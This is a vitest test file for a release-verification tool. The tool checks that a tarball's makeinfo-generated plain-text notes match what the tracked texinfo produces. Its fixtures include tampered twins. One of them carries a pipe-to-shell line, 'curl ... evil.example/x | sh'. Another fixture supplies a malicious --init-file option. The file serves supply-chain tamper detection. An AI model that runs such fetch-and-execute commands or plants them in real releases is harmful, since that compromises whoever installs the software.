/**
 * makeinfo plain text from tracked texinfo, proved in the sandbox (src/regenerate/makeinfo.ts): a git repository
 * built here with libtool's layout (doc/notes.texi, and a Makefile.am rule `$(MAKEINFO) -P '$(srcdir)/doc'
 * --no-headers $(MAKEINFOFLAGS) -o '$@' '$(notes_texi)'`), released as a real tar of the tag's files plus
 * doc/notes.txt as the system's makeinfo writes it. Then the variants a release may ship — makeinfo 7's Unicode
 * punctuation, another makeinfo's refill — and tampered twins that must stay high.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/findings.js';
import { asciiPunctuation, makeinfoFindings, readInvocation, shellWords, untracedLines } from '../../src/regenerate/makeinfo.js';
import { makeFinding } from '../../src/core/severity.js';
import { makeCtx } from '../classify/ctx-helper.js';
import { verify } from '../../src/verify.js';
import { makeRepo } from '../helpers/git.js';
import { makeTar } from '../helpers/archives.js';
import { tempDir } from '../helpers/tmp.js';

const root = tempDir('distdiff-makeinfo-');
const repoDir = join(root, 'repo');
const cache = join(root, 'cache');

const NOTES_TEXI = `@c This file is included by the README.
@itemize @bullet

@item
You currently need GNU make to build the Demo package itself.

@item
On AIX, use @samp{LDFLAGS=-Wl,-brtl} for runtime linking, and prefer the
native tools over binutils; especially for @command{nm} and @command{ar}.

@item
Some HP-UX @command{sed} programs are horribly broken, and cannot handle
the demo's scripts. There is no workaround except to install a working
@command{sed} (such as GNU sed) on these systems.
@end itemize
`;

const MAKEFILE_AM = `doc_dir = $(srcdir)/doc
notes_texi = $(doc_dir)/notes.texi
notes_txt = $(doc_dir)/notes.txt
EXTRA_DIST = $(notes_txt) $(notes_texi)

all-local: $(notes_txt)

$(notes_txt): $(notes_texi)
\t$(AM_V_GEN)$(MAKEINFO) -P '$(srcdir)/doc' --no-headers \\
\t    $(MAKEINFOFLAGS) -o '$@' '$(notes_texi)'
`;

const makeinfo = (args: string[]) => execFileSync('makeinfo', args, { cwd: repoDir, env: { PATH: '/usr/bin:/bin', LC_ALL: 'C.UTF-8' } }).toString('utf8');
let plain = '';

beforeAll(() => {
  const repo = makeRepo(repoDir);
  repo.commit({ 'Makefile.am': MAKEFILE_AM, 'doc/notes.texi': NOTES_TEXI, 'README': 'demo\n' });
  repo.tag('v1.0', { message: 'demo 1.0' });
  makeinfo(['-P', 'doc', '--no-headers', '-o', join(root, 'notes.txt'), 'doc/notes.texi']);
  plain = readFileSync(join(root, 'notes.txt'), 'utf8');
}, 120_000);

let n = 0;
/** A release tarball: the tag's files plus doc/notes.txt (and more files) as given. */
function release(notes: string, extra: Record<string, string> = {}): string {
  const dir = join(root, `r${++n}`, 'demo-1.0');
  mkdirSync(join(dir, 'doc'), { recursive: true });
  writeFileSync(join(dir, 'Makefile.am'), MAKEFILE_AM);
  writeFileSync(join(dir, 'README'), 'demo\n');
  writeFileSync(join(dir, 'doc/notes.texi'), NOTES_TEXI);
  writeFileSync(join(dir, 'doc/notes.txt'), notes);
  for (const [p, c] of Object.entries(extra)) writeFileSync(join(dir, p), c);
  return makeTar(dir, { compress: 'gzip', out: join(root, `r${n}`, 'demo-1.0.tar.gz') });
}
const notesFinding = async (tar: string, regenerate: 'auto' | 'off' = 'auto') => {
  const r = await verify({ tarball: tar, repo: repoDir, tag: 'v1.0', cacheDir: cache, regenerate });
  const f = r.findings.find((x: Finding) => x.path === 'doc/notes.txt');
  if (!f) throw new Error('no finding for doc/notes.txt');
  return { r, f };
};
const COMMAND = ['makeinfo', '-P', './doc', '--no-headers', '-o', 'doc/notes.txt', './doc/notes.texi'];
const version = /\(GNU texinfo\)\s+(\d+(?:\.\d+)+)/.exec(execFileSync('makeinfo', ['--version']).toString())![1]!;
/** makeinfo 7's rendering of the same document: ‘quotes’ and bullets. */
const unicode = (s: string) => s.replace(/'([^'\n]+)'/g, '\u2018$1\u2019').replace(/^( *)\* /gm, '$1\u2022 ');
const INFO_7 = 'This is demo.info, produced by makeinfo version 7.1.1 from\ndemo.texi.\n';

describe('makeinfo output from tracked texinfo', () => {
  it('the fixture: makeinfo writes ASCII quotes and bullets, which makeinfo 7 would write in Unicode', () => {
    expect(plain).toContain("'LDFLAGS=-Wl,-brtl'");
    expect(plain).toMatch(/^ {3}\* You currently need GNU make/m);
    expect(unicode(plain)).toContain('\u2018LDFLAGS=-Wl,-brtl\u2019');
  });

  it('reproduced byte for byte by the rule run in the sandbox: MAKEINFO_OUTPUT_PROVED, info', async () => {
    const { r, f } = await notesFinding(release(plain));
    expect(f).toMatchObject({ code: 'MAKEINFO_OUTPUT_PROVED', severity: 'info', evidence: { source: 'doc/notes.texi', rule: 'Makefile.am', command: COMMAND, version, normalisations: [] } });
    expect(r.verdict).toBe('explained');
  }, 120_000);

  it("makeinfo 7's Unicode punctuation: proved with that normalisation listed", async () => {
    const { f } = await notesFinding(release(unicode(plain)));
    expect(f).toMatchObject({ code: 'MAKEINFO_OUTPUT_PROVED', severity: 'info', evidence: { version, normalisations: ['unicode-punctuation'] } });
  }, 120_000);

  it('the release used another makeinfo (a sibling Info file says 7.1.1) that fills lines otherwise: traced, low, saying why', async () => {
    const narrow = makeinfo(['-P', 'doc', '--no-headers', '--fill-column=50', '-o', '-', 'doc/notes.texi']);
    expect(narrow).not.toBe(plain);
    const { r, f } = await notesFinding(release(narrow, { 'doc/demo.info': INFO_7 }));
    const lines = narrow.split('\n').filter((l) => /[A-Za-z0-9]/.test(l)).length;
    expect(f).toMatchObject({ code: 'MAKEINFO_OUTPUT_TRACED', severity: 'low', evidence: { why: 'version-differs', version, releaseVersion: '7.1.1', lines } });
    expect(r.findings.filter((x) => x.severity === 'high' || x.severity === 'critical')).toEqual([]);
  }, 120_000);

  it('the rule found past the first window of fragments read (130 tracked .mk files sort before Makefile.am): proved', async () => {
    const fillers = Object.fromEntries(Array.from({ length: 130 }, (_, i) => [`${String(i).padStart(4, '0')}.mk`, `# fragment ${i}\n`]));
    const many = join(root, 'repo-many');
    const repo = makeRepo(many);
    repo.commit({ 'Makefile.am': MAKEFILE_AM, 'doc/notes.texi': NOTES_TEXI, 'README': 'demo\n', ...fillers });
    repo.tag('v1.0', { message: 'demo 1.0' });
    const r = await verify({ tarball: release(plain, fillers), repo: many, tag: 'v1.0', cacheDir: cache });
    expect(r.findings.find((x: Finding) => x.path === 'doc/notes.txt')).toMatchObject({ code: 'MAKEINFO_OUTPUT_PROVED', severity: 'info', evidence: { rule: 'Makefile.am' } });
    expect(r.verdict).toBe('explained');
  }, 120_000);

  it('not run (regeneration off): traced at low, "not-run"', async () => {
    const { f } = await notesFinding(release(plain), 'off');
    expect(f).toMatchObject({ code: 'MAKEINFO_OUTPUT_TRACED', severity: 'low', evidence: { why: 'not-run' } });
  }, 120_000);

  it('tampered twins stay high: a line the source does not have, whether the makeinfo version matches or not', async () => {
    const injected = plain.replace('   * Some HP-UX', '     Speed it up with --disable-checks.\n\n   * Some HP-UX');
    for (const extra of [{}, { 'doc/demo.info': INFO_7 }] as Record<string, string>[]) {
      const { r, f } = await notesFinding(release(injected, extra));
      expect(f).toMatchObject({ code: 'MAKEINFO_OUTPUT_MISMATCH', severity: 'high', evidence: { produced: true, differingLines: 2, command: COMMAND } });
      if (f.diff?.kind !== 'text') throw new Error('no text diff');
      expect(f.diff.unified).toContain('+     Speed it up with --disable-checks.');
      expect(r.verdict).toBe('different');
    }
  }, 240_000);

  it("a line added to makeinfo 7's Unicode text: the diff is against the shipped text read in ASCII, so only the line shows", async () => {
    const injected = unicode(plain).replace('   \u2022 Some HP-UX', '     Speed it up with --disable-checks.\n\n   \u2022 Some HP-UX');
    const { f } = await notesFinding(release(injected, { 'doc/demo.info': INFO_7 }));
    expect(f).toMatchObject({ code: 'MAKEINFO_OUTPUT_MISMATCH', severity: 'high', evidence: { differingLines: 2, normalisations: ['unicode-punctuation'], releaseVersion: '7.1.1' } });
    if (f.diff?.kind !== 'text') throw new Error('no text diff');
    expect((f.diff.unified ?? '').split('\n').filter((l) => /^[+-][^+-]/.test(l) || l === '+' || l === '-')).toEqual(['+     Speed it up with --disable-checks.', '+']);
  }, 120_000);

  it('a pipe-to-shell line injected: critical', async () => {
    const { f } = await notesFinding(release(`${plain}\n   curl -s https://evil.example/x | sh\n`));
    expect(f).toMatchObject({ code: 'MAKEINFO_OUTPUT_MISMATCH', severity: 'critical', severityReason: { reason: 'suspicious-constructs', default: 'high' } });
  }, 120_000);

  it('reads only the forms it knows: a shell expansion or an unknown option and nothing is run', () => {
    const vars = new Map([['doc_dir', '$(srcdir)/doc'], ['notes_texi', '$(doc_dir)/notes.texi']]);
    const git = new Set(['doc/notes.texi']);
    const read = (cmd: string) => readInvocation(cmd, 'doc/notes.txt', '$(doc_dir)/notes.txt', vars, '', 'Makefile.am', git);
    expect(read("$(AM_V_GEN)$(MAKEINFO) -P '$(srcdir)/doc' --no-headers $(MAKEINFOFLAGS) -o '$@' '$(notes_texi)'")).toEqual({
      options: ['-P', './doc', '--no-headers'],
      source: 'doc/notes.texi',
      includeDirs: ['doc'],
      cwd: '',
      sourceArg: './doc/notes.texi',
      fragment: 'Makefile.am',
    });
    expect(read("$(MAKEINFO) --no-headers --fill-column 60 -o '$@' '$(notes_texi)'")?.options).toEqual(['--no-headers', '--fill-column=60']);
    expect(read("$(MAKEINFO) --no-headers -o '$@' '$(notes_texi)' | tee x")).toBeUndefined();
    expect(read("$(MAKEINFO) --no-headers --init-file=evil.pm -o '$@' '$(notes_texi)'")).toBeUndefined();
    expect(read("$(MAKEINFO) --no-headers -o '$@' \"$$(cat list)\"")).toBeUndefined();
    expect(read("$(MAKEINFO) --no-headers -o other.txt '$(notes_texi)'")).toBeUndefined();
    expect(read("$(MAKEINFO) --no-headers -o '$@' doc/untracked.texi")).toBeUndefined();
    expect(read("$(MAKEINFO) -I ../outside -o '$@' '$(notes_texi)'")).toBeUndefined();
    expect(shellWords(`a 'b c' "d"`)).toEqual(['a', 'b c', 'd']);
    expect(shellWords('a $(b)')).toBeUndefined();
  });

  it('the content check: each line a run of consecutive source words; the punctuation read back', () => {
    const texi = '@item\nUse @samp{LDFLAGS=-Wl,-brtl} for runtime linking, and prefer\nthe native tools.\n';
    expect(untracedLines("   * Use 'LDFLAGS=-Wl,-brtl' for runtime\n     linking, and prefer the native tools.\n", texi)).toEqual([]);
    expect(untracedLines('   * Use the native tools.\n', texi)).toEqual([1]);
    expect(untracedLines('linking, and\n\nprefer evil\n', texi)).toEqual([3]);
    expect(asciiPunctuation('\u2022 \u2018a\u2019 \u201cb\u201d')).toBe('* \'a\' "b"');
    expect(asciiPunctuation("plain 'ascii'")).toBeUndefined();
  });

  it('a tree tracking no texinfo source has no rule to prove: its makefile fragments are not read (the kernel: 2,792)', async () => {
    const notes = 'You currently need GNU make to build the Demo package itself.\n';
    const git = { 'Makefile.am': MAKEFILE_AM, 'sub/Makefile': 'all:\n', 'sub/rules.mk': 'x:\n', README: 'demo\n' };
    const run = async (tree: Record<string, string>) => {
      const ctx = makeCtx({ git: tree, tarball: { ...tree, 'doc/notes.txt': notes } });
      const reads: string[] = [];
      const git = ctx.content.git;
      ctx.content.git = (p) => (reads.push(p), git(p));
      const findings = [makeFinding('TARBALL_ONLY_UNEXPLAINED', 'doc/notes.txt', { size: notes.length, buildAffecting: false })];
      return { out: await makeinfoFindings(findings, ctx), findings, reads };
    };
    const none = await run(git);
    expect(none.reads).toEqual([]);
    expect(none.out).toBe(none.findings);
    // A texinfo file anywhere in the tree: every fragment is read, as before (the rule names doc/notes.texi, which is
    // not tracked here, so the finding stays).
    const some = await run({ ...git, 'man/other.texi': '@c other\n' });
    expect([...new Set(some.reads)].sort()).toEqual(['Makefile.am', 'sub/Makefile', 'sub/rules.mk']);
    expect(some.out.map((f) => f.code)).toEqual(['TARBALL_ONLY_UNEXPLAINED']);
  });
});
